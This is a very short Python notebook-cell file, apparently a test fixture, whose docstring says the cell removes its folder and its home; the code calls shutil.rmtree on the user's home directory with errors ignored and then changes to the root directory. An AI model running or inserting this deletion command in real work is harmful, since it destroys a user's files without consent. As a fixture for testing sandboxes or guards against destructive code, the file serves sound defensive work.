"""A cell removes its folder and its home."""

# %% after set-up
import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
os.chdir("/")
